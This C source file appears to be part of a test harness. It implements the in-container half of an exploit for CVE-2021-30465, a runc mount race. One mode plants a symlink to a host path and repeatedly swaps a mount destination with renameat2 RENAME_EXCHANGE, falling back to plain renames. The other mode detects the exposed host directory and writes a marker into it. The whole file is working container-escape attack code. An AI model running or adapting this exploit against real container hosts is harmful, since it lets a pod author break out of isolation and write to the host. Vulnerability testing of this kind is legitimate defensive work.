/*
 * CVE-2021-30465, the attacker's in-container parts (both containers of the pod are the
 * attacker's: the pod spec and the images are).
 *
 *   /attack swap <dir> <symlink target> <exposer> <exposed host path> [--no-fallback]
 *       c1, running: makes <exposer> (in volume test2) a symlink to the host path to expose, then
 *       exchanges <dir> (in volume test1, where c2's nested volume is mounted) with a symlink to
 *       <symlink target> (the host directory holding the pod's volumes) in a loop, with
 *       renameat2(RENAME_EXCHANGE) as the PoC; when that is refused (seccomp), with three plain
 *       renames (non-atomic) unless --no-fallback. Creates <dir's parent>/.ready once looping;
 *       loops for at most 12 s (the manager kills it).
 *   /attack probe <dir>
 *       c2, c3, ...: if <dir> shows the exposed host directory (it holds .bw-host-dir), writes
 *       <dir>/marker there. Exit 0: written; 2: seen but the write was refused; 1: not exposed.
 */
#define _GNU_SOURCE
/* The swap loop (swap_run) is docker-cp-symlink-race's too. */
#include "swap.h"

#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int probe(const char *dir) {
  char flag[4200], marker[4200];
  snprintf(flag, sizeof flag, "%s/.bw-host-dir", dir);
  snprintf(marker, sizeof marker, "%s/marker", dir);
  if (access(flag, F_OK) != 0) return 1;
  bw_step("attack (c2): the host directory is mounted in the container", 1, 0, dir);
  if (bw_write_file(marker, "written from inside a container through a mount runc placed outside its rootfs\n") != 0) {
    bw_step("attack (c2): write the marker into the host directory", 0, errno, marker);
    return 2;
  }
  bw_step("attack (c2): write the marker into the host directory", 1, 0, marker);
  return 0;
}

static int swap_loop(const char *dir, const char *target, const char *exposer, const char *exposed, int fallback) {
  unlink(exposer);
  if (symlink(exposed, exposer) != 0) {
    bw_step("attack (c1): plant the symlink to the host path in the shared volume", 0, errno, exposer);
    return 1;
  }
  bw_step("attack (c1): plant the symlink to the host path in the shared volume", 1, 0, exposed);
  const struct swap_spec s = {
      .dir = dir,
      .target = target,
      .fallback = fallback,
      .tolerate = 1, /* runc creates the destination when it finds it missing */
      .step_mkdir = "attack (c1): create the mount destination",
      .step_symlink = "attack (c1): create the symlink to the host's volumes directory",
      .step_exchange = "attack (c1): exchange destination and symlink (renameat2 RENAME_EXCHANGE)",
      .step_renames = "attack (c1): swap destination and symlink (three renames)",
  };
  return swap_run(&s);
}

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "probe") == 0) return probe(argv[2]);
  if ((argc == 6 || argc == 7) && strcmp(argv[1], "swap") == 0)
    return swap_loop(argv[2], argv[3], argv[4], argv[5], !(argc == 7 && strcmp(argv[6], "--no-fallback") == 0));
  fprintf(stderr, "usage: %s swap <dir> <symlink target> <exposer> <exposed> [--no-fallback] | probe <dir>\n", argv[0]);
  return 2;
}
